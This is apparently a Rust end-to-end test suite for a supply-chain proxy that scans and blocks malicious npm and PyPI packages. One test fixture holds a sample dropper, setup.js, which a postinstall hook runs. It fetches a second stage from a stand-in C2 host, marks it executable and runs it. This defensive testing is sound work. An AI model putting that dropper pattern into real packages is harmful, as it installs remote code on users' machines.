//! `customs proxy` end to end, with real pip, uv and npm against the fixture registry on
//! loopback (common/registry.rs): refusals as each client shows them, cooldowns, records
//! of the store, swapped files, an upstream that is down, the token, build identities,
//! ignored rules, what could not be read in full, and two replicas sharing a PostgreSQL
//! store, whose web page Chromium renders.

#![allow(clippy::unwrap_used)]

mod common;

use std::path::Path;

use common::fixtures::{
    DAY, T0, fetch, iso, json_of, npm_document, package, pip_download, postgres_database, run, sri,
    stderr, store_and_cache, text, uv,
};
use common::loopback::Loopback;
use common::proxy::{Proxy, fetch_url, npm_install};
use common::registry::{
    integrity_of, ms_package, npm_env, npm_env_and_store, npm_project, npm_registry,
    pypi_with_provenance, pywheel_registry,
};
use common::{stdout, tar_gz_of};
use serde_json::{Value, json};

#[test]
fn proxy_with_pip() {
    let server = Loopback::start();
    pywheel_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    let upstream = format!("{}/simple", server.url);
    let proxy = Proxy::start_healthy(
        dir.path(),
        &["--pypi-upstream", &upstream, "--min-release-age", "7d"],
        &env,
    );

    let ok = pip_download(dir.path(), &proxy.url, "pywheel==1.0", "downloads", &[]);
    assert!(ok.status.success(), "{}", stderr(&ok));
    assert!(
        dir.path()
            .join("downloads/pywheel-1.0-py3-none-any.whl")
            .is_file()
    );

    let blocked = pip_download(dir.path(), &proxy.url, "pywheel==1.1", "downloads", &[]);
    assert!(!blocked.status.success());
    let err = stderr(&blocked);
    assert!(
        err.contains("403") && err.contains("customs blocked pywheel 1.1"),
        "pip shows the reason phrase: {err}"
    );
    assert!(
        !dir.path()
            .join("downloads/pywheel-1.1-py3-none-any.whl")
            .exists()
    );

    // The cooldown holds 1.2 back: it is listed as yanked with customs' reason, so pip
    // takes it only when asked for exactly it, and then shows why it is refused.
    let young = pip_download(dir.path(), &proxy.url, "pywheel==1.2", "downloads", &[]);
    assert!(!young.status.success());
    let err = stderr(&young);
    assert!(
        err.contains("customs blocked pywheel 1.2") && err.contains("minimum release age"),
        "pip names customs and the reason: {err}"
    );
    let (status, page) = fetch_url(&proxy.url, "/pypi/simple/pywheel/");
    assert_eq!(status, 200);
    let page: Value = serde_json::from_slice(&page).unwrap();
    assert_eq!(page["versions"], json!(["1.0", "1.1", "1.2"]));
    assert!(
        page["files"][2]["yanked"]
            .as_str()
            .unwrap()
            .contains("customs holds this release back"),
        "{page:#}"
    );
    assert!(
        page["files"][0]["url"]
            .as_str()
            .unwrap()
            .ends_with("/pypi/files/pywheel/pywheel-1.0-py3-none-any.whl")
    );
    assert_eq!(page["files"][0]["requires-python"], ">=3.8");
    // PEP 658: the metadata is announced and served by the proxy.
    assert!(
        page["files"][0]["core-metadata"]["sha256"].is_string(),
        "{page:#}"
    );
    let (status, metadata) = fetch_url(
        &proxy.url,
        "/pypi/files/pywheel/pywheel-1.0-py3-none-any.whl.metadata",
    );
    assert_eq!(status, 200);
    assert!(String::from_utf8_lossy(&metadata).contains("Version: 1.0"));

    // Each artifact is downloaded and scanned once.
    let before = server.count("/files/pywheel-1.1-py3-none-any.whl");
    let again = pip_download(dir.path(), &proxy.url, "pywheel==1.1", "downloads", &[]);
    assert!(!again.status.success());
    assert_eq!(
        server.count("/files/pywheel-1.1-py3-none-any.whl"),
        before,
        "the verdict and the bytes are cached"
    );
}

#[test]
fn proxy_with_npm() {
    let server = Loopback::start();
    npm_registry(&server);
    ms_package(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    let upstream = format!("{}/npm/", server.url);
    let proxy = Proxy::start_healthy(dir.path(), &["--npm-upstream", &upstream], &env);
    let npm = |project: &str, spec: &str| npm_install(dir.path(), project, &proxy.url, spec);
    let ok = npm("good", "webfetch@1.0.0");
    assert!(ok.status.success(), "{}", text(&ok));
    assert!(
        dir.path()
            .join("good/node_modules/webfetch/index.js")
            .is_file()
    );
    assert!(dir.path().join("good/node_modules/ms/index.js").is_file());

    let bad = npm("bad", "webfetch@1.0.1");
    assert!(!bad.status.success());
    let err = stderr(&bad) + &stdout(&bad);
    assert!(
        err.contains("customs blocked"),
        "npm shows the JSON error: {err}"
    );
    assert!(
        !dir.path()
            .join("bad/node_modules/crypto-helper-js")
            .exists()
    );

    // The document the proxy serves points tarballs at itself.
    let (status, doc) = fetch_url(&proxy.url, "/npm/webfetch");
    assert_eq!(status, 200);
    let doc: Value = serde_json::from_slice(&doc).unwrap();
    assert!(
        doc["versions"]["1.0.0"]["dist"]["tarball"]
            .as_str()
            .unwrap()
            .starts_with(&proxy.url)
    );
}

#[test]
fn proxy_filters_and_moves_latest() {
    let server = Loopback::start();
    npm_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    // A record that names the latest release: it is deprecated with the reason, and
    // `latest` moves.
    let osv = dir.path().join("osv.json");
    std::fs::write(&osv, r#"{"id": "MAL-2099-9", "summary": "hijacked", "affected": [{"package": {"ecosystem": "npm", "name": "webfetch"}, "versions": ["1.0.1"]}]}"#).unwrap();
    assert!(
        run(dir.path(), &["db", "import", osv.to_str().unwrap()], &env)
            .status
            .success()
    );
    let upstream = format!("{}/npm/", server.url);
    let proxy = Proxy::start_healthy(dir.path(), &["--npm-upstream", &upstream], &env);
    let (_, doc) = fetch_url(&proxy.url, "/npm/webfetch");
    let doc: Value = serde_json::from_slice(&doc).unwrap();
    assert!(
        doc["versions"]["1.0.1"]["deprecated"]
            .as_str()
            .unwrap()
            .contains("MAL-2099-9")
    );
    assert_eq!(doc["dist-tags"]["latest"], "1.0.0");
    let (status, body) = fetch_url(&proxy.url, "/npm/webfetch/-/webfetch-1.0.1.tgz");
    assert_eq!(
        status, 403,
        "asking for the file directly (a lockfile) is refused too"
    );
    assert!(String::from_utf8_lossy(&body).contains("MAL-2099-9"));
    assert_eq!(
        server.count("/npm/webfetch/-/webfetch-1.0.1.tgz"),
        0,
        "known malware is never downloaded"
    );

    // An upstream that is down: a clear 502 naming it.
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let dead = format!("http://{}/npm/", closed.local_addr().unwrap());
    drop(closed);
    let down = Proxy::start_healthy(dir.path(), &["--npm-upstream", &dead], &env);
    let (status, body) = fetch_url(&down.url, "/npm/anything");
    assert_eq!(status, 502);
    assert!(
        String::from_utf8_lossy(&body).contains(dead.trim_end_matches('/')),
        "{}",
        String::from_utf8_lossy(&body)
    );
}

#[test]
fn proxy_refuses_swapped_files_keeps_serving_when_upstream_is_down_and_needs_its_token() {
    let server = Loopback::start();
    npm_registry(&server);
    ms_package(&server);
    // A document whose integrity does not match the tarball served.
    let doc = json!({
        "name": "swapped", "dist-tags": {"latest": "1.0.0"},
        "versions": {"1.0.0": {"name": "swapped", "version": "1.0.0", "dist": {"tarball": format!("{}/npm/ms/-/ms-2.1.3.tgz", server.url), "integrity": sri(b"other bytes")}}},
        "time": {"1.0.0": iso(T0)}
    });
    npm_document(&server, "/npm/swapped", &doc);
    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    let upstream = format!("{}/npm/", server.url);
    let proxy = Proxy::start_healthy(dir.path(), &["--npm-upstream", &upstream], &env);
    // Bytes other than those the index lists: refused, and nothing stored about them.
    let (status, body) = fetch_url(&proxy.url, "/npm/swapped/-/ms-2.1.3.tgz");
    assert_eq!(status, 502, "{}", String::from_utf8_lossy(&body));
    assert!(String::from_utf8_lossy(&body).contains("does not match the index's sha512"));

    // Scanned once, then the upstream goes down: the scanned package is still served,
    // an unseen one fails with a clear error.
    let (status, _) = fetch_url(&proxy.url, "/npm/ms");
    assert_eq!(status, 200);
    let (status, tgz) = fetch_url(&proxy.url, "/npm/ms/-/ms-2.1.3.tgz");
    assert_eq!(status, 200);
    assert_eq!(sri(&tgz), integrity_of(&server, "ms", "2.1.3"));
    server.down.store(true, std::sync::atomic::Ordering::SeqCst);
    let (status, _) = fetch_url(&proxy.url, "/npm/ms");
    assert_eq!(
        status, 200,
        "the last document is served while the upstream is down"
    );
    let (status, again) = fetch_url(&proxy.url, "/npm/ms/-/ms-2.1.3.tgz");
    assert_eq!((status, again), (200, tgz));
    let (status, body) = fetch_url(&proxy.url, "/npm/webfetch");
    assert_eq!(status, 502);
    assert!(
        String::from_utf8_lossy(&body).contains("upstream"),
        "{}",
        String::from_utf8_lossy(&body)
    );
    server
        .down
        .store(false, std::sync::atomic::Ordering::SeqCst);

    // Beyond loopback only with a token; with one, requests must carry it.
    let out = run(
        dir.path(),
        &[
            "proxy",
            "--listen",
            "0.0.0.0:0",
            "--npm-upstream",
            &upstream,
        ],
        &env,
    );
    assert_ne!(out.status.code(), Some(0));
    assert!(stderr(&out).contains("token"), "{}", stderr(&out));
    let guarded = Proxy::start_healthy(
        dir.path(),
        &["--npm-upstream", &upstream, "--token", "s3cret"],
        &env,
    );
    let (status, _) = fetch_url(&guarded.url, "/npm/ms");
    assert_eq!(status, 401);
    let addr = guarded.url.trim_start_matches("http://");
    let with_token = {
        use std::io::{Read, Write};
        let mut s = std::net::TcpStream::connect(addr).unwrap();
        write!(s, "GET /npm/ms HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer s3cret\r\nConnection: close\r\n\r\n").unwrap();
        let mut all = String::new();
        s.read_to_string(&mut all).unwrap();
        all
    };
    assert!(with_token.starts_with("HTTP/1.1 200"), "{with_token}");
}

#[test]
fn proxy_with_uv() {
    let uv = uv();
    assert!(uv.is_file(), "uv is installed by test.sh: {}", uv.display());
    let server = Loopback::start();
    pywheel_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    let upstream = format!("{}/simple", server.url);
    let proxy = Proxy::start_healthy(
        dir.path(),
        &["--pypi-upstream", &upstream, "--min-release-age", "7d"],
        &env,
    );
    let install = |spec: &str, target: &str| {
        std::process::Command::new(&uv)
            .args([
                "pip",
                "install",
                "--no-deps",
                "--no-cache",
                "--python",
                "python3",
                "--target",
            ])
            .arg(dir.path().join(target))
            .args(["--index-url", &format!("{}/pypi/simple/", proxy.url), spec])
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", dir.path().join("home"))
            .env("UV_NO_CONFIG", "1")
            .output()
            .unwrap()
    };
    let ok = install("pywheel==1.0", "good");
    assert!(ok.status.success(), "{}", stderr(&ok));
    assert!(dir.path().join("good/pywheel/__init__.py").is_file());
    let bad = install("pywheel==1.1", "bad");
    assert!(!bad.status.success());
    let err = stderr(&bad);
    assert!(
        err.contains("customs blocked pywheel 1.1"),
        "uv shows the reason phrase: {err}"
    );
    // Unpinned: the cooldown hides 1.2, so uv resolves to the newest version left, 1.1,
    // which is refused.
    let unpinned = install("pywheel", "latest");
    assert!(!unpinned.status.success());
    assert!(stderr(&unpinned).contains("pywheel 1.1"));
}

/// The page at `url` as headless Chromium (Debian's package) renders it: its DOM.
fn chromium_dom(dir: &Path, url: &str) -> String {
    let chromium = std::env::var_os("CUSTOMS_TEST_CHROMIUM")
        .map_or_else(|| std::path::PathBuf::from("chromium"), Into::into);
    let profile = tempfile::tempdir_in(dir).unwrap();
    let out = std::process::Command::new(&chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--dump-dom",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(url)
        .output()
        .unwrap_or_else(|e| panic!("{} runs (test.sh installs it): {e}", chromium.display()));
    assert!(out.status.success(), "{}", stderr(&out));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// The text of a DOM, tags dropped and entities of the page decoded, whitespace folded.
fn text_of(dom: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    for c in dom.chars() {
        match c {
            '<' => {
                in_tag = true;
                out.push(' ');
            }
            '>' => in_tag = false,
            c if !in_tag => out.push(c),
            _ => {}
        }
    }
    let out = out
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&");
    out.split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .replace(" ,", ",")
        .replace(" :", ":")
}

#[test]
fn two_proxies_share_one_postgres_store_and_the_web_page_shows_why() {
    let server = Loopback::start();
    npm_registry(&server);
    ms_package(&server);
    let dir = tempfile::tempdir().unwrap();
    let store = postgres_database("proxies");
    let upstream = format!("{}/npm/", server.url);
    let proxies: Vec<Proxy> = ["a", "b"]
        .iter()
        .map(|n| {
            let env = vec![
                ("CUSTOMS_STORE", store.clone()),
                (
                    "CUSTOMS_CACHE_DIR",
                    dir.path().join(format!("cache-{n}")).display().to_string(),
                ),
            ];
            let d = dir.path().join(n);
            std::fs::create_dir_all(&d).unwrap();
            Proxy::start_healthy(&d, &["--npm-upstream", &upstream], &env)
        })
        .collect();

    // Both replicas are asked for the hijacked release at once: one scans it (its
    // history included, so the release before it is downloaded once), the other waits
    // for the verdict in the shared store.
    let path = "/npm/webfetch/-/webfetch-1.0.1.tgz";
    let answers: Vec<(u16, Vec<u8>)> = std::thread::scope(|s| {
        let handles: Vec<_> = proxies
            .iter()
            .map(|p| s.spawn(|| fetch_url(&p.url, path)))
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    for (status, body) in &answers {
        assert_eq!(*status, 403, "{}", String::from_utf8_lossy(body));
        assert!(String::from_utf8_lossy(body).contains("customs blocked webfetch@1.0.1"));
    }
    assert_eq!(
        server.count("/npm/webfetch/-/webfetch-1.0.1.tgz"),
        1,
        "scanned once"
    );
    assert_eq!(
        server.count("/npm/webfetch/-/webfetch-1.0.0.tgz"),
        1,
        "its predecessor compared once"
    );
    // A clean release scanned by one replica is served by the other without a scan.
    let (status, body) = fetch_url(&proxies[0].url, "/npm/webfetch/-/webfetch-1.0.0.tgz");
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    let before = server.count("/npm/webfetch/-/webfetch-0.9.4.tgz");
    let (status, body) = fetch_url(&proxies[1].url, "/npm/webfetch/-/webfetch-1.0.0.tgz");
    assert_eq!(status, 200);
    assert_eq!(body, fetch(&server, "/npm/webfetch/-/webfetch-1.0.0.tgz"));
    assert_eq!(
        server.count("/npm/webfetch/-/webfetch-0.9.4.tgz"),
        before,
        "no second history scan"
    );

    // The web page, rendered by Chromium, lists both replicas' decisions.
    let index = chromium_dom(dir.path(), &format!("{}/ui/", proxies[1].url));
    let shown = text_of(&index);
    assert!(shown.contains("customs proxy"), "{shown}");
    // One line per artifact and decision: each made twice, once by each replica.
    assert_eq!(
        index.matches("class=\"decision\"").count(),
        2,
        "two refusals and two allowed downloads: {shown}"
    );
    assert_eq!(
        index.matches("<td class=\"count\">2</td>").count(),
        2,
        "{shown}"
    );
    assert!(
        shown.contains("block npm:webfetch 1.0.1 malicious"),
        "{shown}"
    );
    assert!(shown.contains("allow npm:webfetch 1.0.0 clean"), "{shown}");
    let link = index
        .split("<tr")
        .find(|row| row.contains(">1.0.1<"))
        .and_then(|row| row.split("href=\"").nth(1))
        .and_then(|s| s.split('"').next())
        .expect("a link to the refused artifact's page")
        .to_owned();
    assert!(link.starts_with("/ui/artifact/sha512:"), "{link}");
    // The refused artifact's page: its findings, with the quoted lines, and its diff.
    let page = text_of(&chromium_dom(
        dir.path(),
        &format!("{}{link}", proxies[0].url),
    ));
    assert!(page.contains("webfetch 1.0.1 (npm)"), "{page}");
    assert!(
        page.contains("Decision: block, verdict malicious"),
        "{page}"
    );
    assert!(page.contains("unused-new-dependency"), "{page}");
    assert!(page.contains("risky-new-dependency"), "{page}");
    assert!(
        page.contains("Changes since 1.0.0")
            && page.contains("+ dependency crypto-helper-js ^4.2.1"),
        "{page}"
    );
    assert!(
        page.contains("runs install scripts (postinstall)"),
        "{page}"
    );
    // The dropper itself, asked for directly: its findings quote its lines.
    let (status, _) = fetch_url(
        &proxies[0].url,
        "/npm/crypto-helper-js/-/crypto-helper-js-4.2.1.tgz",
    );
    assert_eq!(status, 403);
    let index = chromium_dom(dir.path(), &format!("{}/ui/", proxies[0].url));
    let link = index
        .split("<tr")
        .find(|row| row.contains("crypto-helper-js"))
        .and_then(|row| row.split("href=\"").nth(1))
        .and_then(|s| s.split('"').next())
        .unwrap()
        .to_owned();
    let dom = chromium_dom(dir.path(), &format!("{}{link}", proxies[1].url));
    let page = text_of(&dom);
    assert!(page.contains("download-execute"), "{page}");
    assert!(page.contains("setup.js:"), "{page}");
    assert!(
        dom.contains("<pre class=\"quote\">") && page.contains("fs.chmodSync(target, 0o755)"),
        "the quoted line: {page}"
    );
    assert!(
        page.contains("No earlier release to compare with"),
        "{page}"
    );
    let (status, _) = fetch_url(&proxies[0].url, "/ui/artifact/sha256:nothing");
    assert_eq!(status, 404);

    // Package documents are served again for --metadata-ttl (30 s by default): twenty
    // clients asking at once cost the upstream one read.
    let before = server.count("/npm/ms");
    std::thread::scope(|s| {
        for _ in 0..20 {
            s.spawn(|| assert_eq!(fetch_url(&proxies[0].url, "/npm/ms").0, 200));
        }
    });
    assert_eq!(fetch_url(&proxies[0].url, "/npm/ms").0, 200);
    assert_eq!(server.count("/npm/ms"), before + 1, "one upstream read");
}

/// The proxy holds releases to a build identity: pinned on first use (in the store) from
/// the first release seen with provenance, or in the policy file; a release built
/// elsewhere is refused, unless the policy exempts it.
#[test]
fn proxy_pins_build_identities() {
    let server = Loopback::start();
    pypi_with_provenance(
        &server,
        "pinned",
        &[
            ("1.0", T0 - 60 * DAY, Some("octo/pinned")),
            ("1.1", T0, Some("mallory/pinned")),
        ],
    );
    for name in ["listed", "strict"] {
        let (octo, mallory) = (format!("octo/{name}"), format!("mallory/{name}"));
        pypi_with_provenance(
            &server,
            name,
            &[
                ("1.0", T0 - 60 * DAY, Some(octo.as_str())),
                ("1.1", T0, Some(mallory.as_str())),
            ],
        );
    }
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("customs.toml");
    std::fs::write(
        &policy,
        "pin_on_first_use = true\nprovenance_exempt = [\"pypi:listed==1.1\"]\n\n[[pin]]\npackage = \"pypi:listed\"\nrepository = \"octo/listed\"\nworkflow = \"release.yml\"\n\n[[pin]]\npackage = \"pypi:strict\"\nrepository = \"octo/strict\"\n",
    )
    .unwrap();
    let env = store_and_cache(dir.path());
    let upstream = format!("{}/simple", server.url);
    let proxy = Proxy::start_healthy(
        dir.path(),
        &[
            "--pypi-upstream",
            &upstream,
            "--policy",
            policy.to_str().unwrap(),
        ],
        &env,
    );
    let get = |path: &str| fetch_url(&proxy.url, path);
    assert_eq!(
        get("/pypi/files/pinned/pinned-1.0.tar.gz").0,
        200,
        "pins octo/pinned"
    );
    let (status, body) = get("/pypi/files/pinned/pinned-1.1.tar.gz");
    assert_eq!(status, 403);
    let body = String::from_utf8_lossy(&body);
    assert!(
        body.contains(
            "built by mallory/pinned release.yml, not by the pinned octo/pinned release.yml"
        ),
        "{body}"
    );
    // The policy's own pin, and an exemption for one release.
    assert_eq!(get("/pypi/files/listed/listed-1.0.tar.gz").0, 200);
    assert_eq!(get("/pypi/files/listed/listed-1.1.tar.gz").0, 200, "exempt");
    let (status, body) = get("/pypi/files/strict/strict-1.1.tar.gz");
    assert_eq!(status, 403, "{}", String::from_utf8_lossy(&body));
    assert!(String::from_utf8_lossy(&body).contains("not by the pinned octo/strict"));
}

/// Serves `tgz` as the only release of an npm package.
fn npm_tarball(server: &Loopback, name: &str, version: &str, tgz: &[u8]) -> String {
    let path = format!("/npm/{name}/-/{name}-{version}.tgz");
    server.route(&path, "application/octet-stream", tgz.to_vec());
    let doc = json!({
        "name": name, "dist-tags": {"latest": version},
        "versions": {version: {"name": name, "version": version, "dist": {"tarball": format!("{}{path}", server.url), "integrity": sri(tgz)}}},
        "time": {"created": iso(T0), version: iso(T0)}
    });
    npm_document(server, &format!("/npm/{name}"), &doc);
    sri(tgz)
}

/// Issue 28 item 11 in the surfaces that decide: a dropper behind a compression bomb is
/// refused as malicious, and an artifact that could not be read in full is refused as
/// unreadable, by the proxy and by `audit`, under the default policy.
#[test]
fn what_could_not_be_read_in_full_is_blocked_and_a_bomb_hides_nothing() {
    let server = Loopback::start();
    // Inert: it would fetch a payload, write it and run it.
    let dropper: &[u8] = b"const http = require('http');
const fs = require('fs');
const { execFileSync } = require('child_process');
const dest = require('path').join(require('os').tmpdir(), 'helper');
http.get('http://c2.example.invalid/stage2', (res) => {
  const file = fs.createWriteStream(dest);
  res.pipe(file);
  file.on('finish', () => { fs.chmodSync(dest, 0o755); execFileSync(dest); });
});
";
    let zeros = vec![0u8; 12 << 20];
    let padded = tar_gz_of(
        &[
            (
                "package.json",
                br#"{"name":"padded","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
            ),
            ("padding.bin", &zeros),
            ("setup.js", dropper),
        ],
        "package/",
    );
    let noise: Vec<u8> = (0..400_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    let whole = tar_gz_of(
        &[
            ("package.json", br#"{"name":"cut","version":"1.0.0"}"#),
            ("index.js", b"module.exports = 1;\n"),
            ("data.bin", &noise),
            ("setup.js", dropper),
        ],
        "package/",
    );
    npm_tarball(&server, "padded", "1.0.0", &padded);
    let cut_integrity = npm_tarball(&server, "cut", "1.0.0", &whole[..whole.len() / 2]);

    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    let upstream = format!("{}/npm/", server.url);
    let proxy = Proxy::start_healthy(dir.path(), &["--npm-upstream", &upstream], &env);
    let (status, body) = fetch_url(&proxy.url, "/npm/padded/-/padded-1.0.0.tgz");
    let body = String::from_utf8_lossy(&body);
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("malicious"), "{body}");
    let (status, body) = fetch_url(&proxy.url, "/npm/cut/-/cut-1.0.0.tgz");
    let body = String::from_utf8_lossy(&body);
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("not read in full"), "{body}");
    drop(proxy);

    let env = npm_env_and_store(&server, dir.path());
    npm_project(
        &dir.path().join("app"),
        &[("cut", "1.0.0", cut_integrity, true, &[])],
    );
    let out = run(dir.path(), &["audit", "app", "--format", "json"], &env);
    let r = json_of(&out);
    let cut = package(&r, "cut");
    assert_eq!(cut["policy"]["decision"], "block", "{cut}");
    assert!(
        cut["policy"]["reasons"]
            .to_string()
            .contains("not read in full"),
        "{cut}"
    );
    assert_eq!(out.status.code(), Some(1), "{r}");
}

/// The proxy with `--ignore`: the rules a malicious tarball triggers, ignored, let it
/// through; the verdict stored without them does not answer for the proxy that ignores
/// them (on the same store), nor the other way round.
#[test]
fn proxy_applies_ignored_rules() {
    let server = Loopback::start();
    npm_registry(&server);
    let dir = tempfile::tempdir().unwrap();
    let env = store_and_cache(dir.path());
    let mut scan_env = npm_env(&server, &dir.path().join("scan-cache"));
    scan_env.extend(env.iter().cloned());
    let scanned = json_of(&run(
        dir.path(),
        &[
            "scan",
            "--format",
            "json",
            "--no-history",
            "npm:crypto-helper-js@4.2.1",
        ],
        &scan_env,
    ));
    let mut rules: Vec<&str> = scanned["packages"][0]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    rules.sort_unstable();
    rules.dedup();
    assert!(!rules.is_empty(), "{scanned:#}");
    let upstream = format!("{}/npm/", server.url);
    let file = "/npm/crypto-helper-js/-/crypto-helper-js-4.2.1.tgz";

    let strict = Proxy::start_healthy(dir.path(), &["--npm-upstream", &upstream], &env);
    assert_eq!(fetch_url(&strict.url, file).0, 403);
    drop(strict);

    let mut args = vec!["--npm-upstream", upstream.as_str()];
    for r in &rules {
        args.extend(["--ignore", *r]);
    }
    let lenient = Proxy::start_healthy(dir.path(), &args, &env);
    let (status, body) = fetch_url(&lenient.url, file);
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    drop(lenient);

    let strict = Proxy::start_healthy(dir.path(), &["--npm-upstream", &upstream], &env);
    assert_eq!(
        fetch_url(&strict.url, file).0,
        403,
        "the stored verdict stays strict"
    );
}
